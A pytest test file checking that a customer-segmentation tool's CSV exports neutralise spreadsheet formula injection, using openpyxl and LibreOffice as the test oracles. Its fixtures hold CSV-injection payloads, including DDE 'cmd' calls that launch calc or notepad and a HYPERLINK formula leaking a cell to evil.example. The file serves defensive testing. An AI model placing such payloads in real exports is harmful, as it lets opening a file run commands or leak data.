"""Exports are safe to open in a spreadsheet: no CSV custseg writes holds a cell a spreadsheet
would run as a formula (OWASP "CSV injection").

One hostile data set (IDs, column names, category values, segment names and malformed lines that
start with ``=``, ``+``, ``-``, ``@``, tab or carriage return) goes through every command that
writes CSV: ``segment`` (segments, profiles, rejects), ``assign`` (output and its rejects),
``compare`` (migration, shares, moves, drift) and ``rfm --out features.csv`` (and its rejects).
Every cell of every file is then checked as text, loaded into a workbook as a spreadsheet types
it (openpyxl), and, when LibreOffice is installed, converted by LibreOffice itself.
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest
from reliability_helpers import read_csv_cells
from typer.testing import CliRunner

from custseg.cli import app
from custseg.io import FORMULA_PREFIXES, guard_formulas

runner = CliRunner()

HOSTILE_IDS = ["=1+1", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=2+2", "\r=3+3",
               "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-", "+", "@"]
HOSTILE_CITY = ["=cmd|' /C notepad'!'A1'", "@lyon", "+oslo", "-porto"]
FEATURES = ["=age", "+income", "@visits", "-spend"]  # hostile column names, numeric values


def _invoke(*args: str) -> None:
    res = runner.invoke(app, [*args, "--quiet"])
    assert res.exit_code == 0, res.output


def _write_rows(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows([header, *rows])
    return path


def _customers(path: Path, n: int, seed: int) -> Path:
    rng = np.random.default_rng(seed)
    group = rng.integers(0, 3, n)
    centers = np.array([[25, 30, 5, 100], [45, 90, 20, 900], [65, 50, 2, 300]], float)
    X = centers[group] + rng.normal(0, [3, 6, 1.5, 40], size=(n, 4))
    rows = []
    for i in range(n):
        cid = HOSTILE_IDS[i] if i < len(HOSTILE_IDS) else f"=C{i}" if i % 7 == 0 else f"C{i}"
        rows.append([cid, *[f"{v:.2f}" for v in X[i]], HOSTILE_CITY[i % len(HOSTILE_CITY)]])
    rows.append(["=bad", "=1+1", "1", "1", "1", "=x"])  # invalid_value, values kept in rejects
    rows.append(["=ragged", "1", "2"])  # malformed_row: its raw text goes to rejects.csv
    rows.append(["=HYPERLINK(1)", "", "", "", "", "@x"])  # all_features_missing
    return _write_rows(path, ["customer_id", *FEATURES, "@city"], rows)


def _orders(path: Path) -> Path:
    rows = []
    for i, cid in enumerate(HOSTILE_IDS + [f"C{j}" for j in range(30)]):
        for j in range(1 + i % 3):
            rows.append([f"=INV{i}-{j}", cid, f"2011-{1 + (i + j) % 12:02d}-0{1 + j}",
                         str(1 + j), f"{1.5 + i:.2f}"])
    rows.append(["=INVX", "", "2011-01-01", "1", "2.0"])  # no customer: excluded, in rejects
    rows.append(["=INVY", "=C1", "not a date", "1", "2.0"])  # bad date: excluded, in rejects
    return _write_rows(path, ["InvoiceNo", "CustomerID", "InvoiceDate", "Quantity", "UnitPrice"],
                       rows)


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Every CSV file the commands write for the hostile data set."""
    tmp = tmp_path_factory.mktemp("injection")
    first = _customers(tmp / "month1.csv", 120, seed=1)
    second = _customers(tmp / "month2.csv", 120, seed=2)
    names = tmp / "names.json"
    names.write_text(json.dumps({"0": "=HYPERLINK(\"http://x\")", "1": "@evil", "2": "+1+1"}))
    common = ["--categorical", "@city", "--k", "3", "--n-init", "2", "--id", "customer_id"]
    _invoke("segment", str(first), "--out", str(tmp / "run1"), *common)
    _invoke("segment", str(second), "--out", str(tmp / "run2"), *common, "--names", str(names),
            "--seed", "3")
    _invoke("assign", str(tmp / "run2" / "model.json"), str(first), "--out",
            str(tmp / "assigned.csv"))
    _invoke("compare", str(tmp / "run1"), str(tmp / "run2"), "--out", str(tmp / "migration"))
    _invoke("rfm", str(_orders(tmp / "orders.csv")), "--out", str(tmp / "rfm" / "features.csv"))
    files = sorted(p for p in tmp.rglob("*.csv") if p.name not in {"month1.csv", "month2.csv",
                                                                   "orders.csv"})
    expected = {"segments.csv", "profiles.csv", "rejects.csv", "assigned.csv",
                "assigned.rejects.csv", "migration.csv", "migration_shares.csv", "moves.csv",
                "drift.csv", "features.csv", "features.rejects.csv"}
    assert expected <= {p.name for p in files}, files
    return files


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def _dangerous(cell: str) -> bool:
    """Would a spreadsheet treat ``cell``, typed in, as a formula or command? Text starting with
    ``=``, ``@``, tab or CR always; ``+``/``-`` unless the cell is a plain number."""
    if not cell.startswith(FORMULA_PREFIXES):
        return False
    return not (cell[0] in "+-" and _is_number(cell))


def test_every_export_is_neutralised(exports: list[Path]) -> None:
    checked = 0
    for path in exports:
        for r, row in enumerate(read_csv_cells(path)):
            for c, cell in enumerate(row):
                assert not _dangerous(cell), f"{path.name} row {r} column {c}: {cell!r}"
                checked += 1
    assert checked > 1000


def test_hostile_values_are_kept_not_dropped(exports: list[Path]) -> None:
    """The guard adds one apostrophe; it neither drops the row nor alters the rest."""
    by_name = {p.name: p for p in exports}
    segments = read_csv_cells(by_name["segments.csv"])
    ids = {row[0] for row in segments[1:]}
    for hostile in HOSTILE_IDS:
        assert "'" + hostile in ids, hostile
    assert segments[0][0] == "customer_id"
    profiles = read_csv_cells(by_name["profiles.csv"])
    assert any(cell.startswith("'=age") for cell in profiles[0]), profiles[0]
    moves = read_csv_cells(by_name["moves.csv"])
    assert any("'=HYPERLINK(\"http://x\")" in row for row in moves[1:])
    rejects = read_csv_cells(next(p for p in exports if p.name == "rejects.csv"
                                  and p.parent.name == "run1"))
    reasons = {row[1] for row in rejects[1:]}
    assert {"invalid_value", "malformed_row", "all_features_missing"} <= reasons
    assert all(row[1] for row in rejects[1:])


def _as_typed_workbook(path: Path):
    """Load a CSV into a workbook the way a spreadsheet's import does: every cell typed in as
    text (openpyxl, like a spreadsheet, turns text starting with '=' into a formula)."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for row in read_csv_cells(path):
        ws.append([_typed(cell) for cell in row])
    return wb


def _typed(cell: str) -> object:
    return float(cell) if _is_number(cell) else cell


def test_spreadsheet_engine_sees_no_formula(exports: list[Path], tmp_path: Path) -> None:
    """openpyxl: no cell becomes a formula (data_type 'f'), before and after an .xlsx round
    trip; the same loader does flag an unguarded file (the check can fail)."""
    import openpyxl

    for path in exports:
        wb = _as_typed_workbook(path)
        target = tmp_path / (path.stem + ".xlsx")
        wb.save(target)
        for book in (wb, openpyxl.load_workbook(target)):
            for row in book.active.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith("="), (path.name, cell.value)
    unguarded = tmp_path / "unguarded.csv"
    unguarded.write_text("id\n=1+1\n", encoding="utf-8")
    assert _as_typed_workbook(unguarded).active["A2"].data_type == "f"


def test_guard_is_complete_for_every_prefix() -> None:
    import pandas as pd

    values = [p + "x" for p in FORMULA_PREFIXES] + ["plain", "-5"]
    frame = pd.DataFrame({p + "col": values for p in FORMULA_PREFIXES})
    guarded = guard_formulas(frame)
    assert all(c.startswith("'") for c in guarded.columns)
    for col in guarded.columns:
        assert guarded[col].tolist()[:len(FORMULA_PREFIXES)] == ["'" + v for v in values[:-2]]
        assert guarded[col].tolist()[-2:] == ["plain", "'-5"]  # text that looks like a number


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_evaluates_no_formula(exports: list[Path], tmp_path: Path) -> None:
    """LibreOffice headless imports each CSV with formula evaluation on and saves .xlsx; the
    workbook must hold no formula cell."""
    import openpyxl

    # CSV filter: comma, double quote, UTF-8, from line 1, standard cells, "evaluate formulas"
    infilter = "CSV Text - txt - csv (StarCalc):44,34,76,1,,1033,false,false,false,false,false,-1,true"
    for path in exports:
        out = tmp_path / path.parent.name
        out.mkdir(exist_ok=True)
        subprocess.run([SOFFICE, "--headless", "--norestore", f"-env:UserInstallation=file://"
                        f"{tmp_path / 'lo-profile'}", f"--infilter={infilter}", "--convert-to",
                        "xlsx", "--outdir", str(out), str(path)],
                       check=True, capture_output=True, timeout=180)
        book = openpyxl.load_workbook(out / (path.stem + ".xlsx"))
        for row in book.active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
